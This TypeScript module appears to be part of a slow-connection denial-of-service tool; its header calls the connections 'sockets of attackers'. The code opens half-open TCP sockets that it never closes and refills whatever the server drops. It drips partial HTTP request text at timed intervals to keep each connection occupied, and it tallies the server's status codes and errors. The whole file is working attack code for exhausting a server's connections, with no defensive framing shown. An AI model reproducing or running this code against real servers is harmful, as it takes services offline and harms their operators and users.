// Sockets of attackers: they never close their own side, so that the server has to.
import { connect, type Socket } from 'node:net';
import { type Tally, type Target, turns } from './attack';

/** Counts the status of each answer, the end of the stream and errors. */
export function openSocket({ host }: Target, port: number, tally: Tally): Socket {
  const socket = connect({ host, port, allowHalfOpen: true });
  socket.on('data', (data) => {
    const status = /^HTTP\/1\.1 (\d+)/.exec(data.toString('latin1', 0, 16))?.[1];
    if (status) tally.count(status);
  });
  socket.on('end', () => tally.count('closed by the server'));
  socket.on('error', ({ code = 'error' }: NodeJS.ErrnoException) => tally.count(code));
  return socket;
}

export interface Crowd {
  readonly count: number;
  /** How many are opened per second at most. */
  readonly perSecond: number;
}

/** Keeps so many sockets open, and replaces those that the server closes. It leaves their own side open, of up to three times as many. */
export async function keepOpen(open: () => Socket, { count, perSecond }: Crowd, signal: AbortSignal): Promise<void> {
  const sockets = new Set<Socket>();
  let live = 0;
  for await (const _ of turns(perSecond, signal)) {
    if (live >= count || sockets.size >= 3 * count) continue;
    const socket = open();
    let isLive = true;
    const leave = () => {
      if (isLive) live--;
      isLive = false;
    };
    live++;
    sockets.add(socket);
    socket.on('end', leave);
    socket.on('close', () => {
      leave();
      sockets.delete(socket);
    });
  }
}

/** Writes the text again and again. A socket that the server has destroyed reports an error on the second time. */
export function drip(socket: Socket, text: string, milliseconds: number): void {
  const timer = setInterval(() => socket.write(text), milliseconds);
  socket.on('close', () => clearInterval(timer));
}

export const requestHead = (method: string, path: string, headers: Record<string, string | number>): string =>
  [`${method} ${path} HTTP/1.1`, ...Object.entries(headers).map(([name, value]) => `${name}: ${value}`), '', ''].join('\r\n');
